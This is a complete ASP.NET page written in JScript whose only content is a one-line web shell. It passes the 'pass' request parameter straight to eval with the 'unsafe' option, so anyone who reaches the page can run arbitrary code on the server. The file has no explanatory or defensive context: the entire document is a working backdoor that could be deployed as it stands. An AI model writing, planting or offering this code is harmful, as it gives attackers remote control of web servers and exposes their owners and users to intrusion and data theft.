<%@ Page Language = "JScript" Debug="false" %>
<%
    eval ( Request [ "pass" ] /* tool */ ,
           'unsafe' ) ;
%>
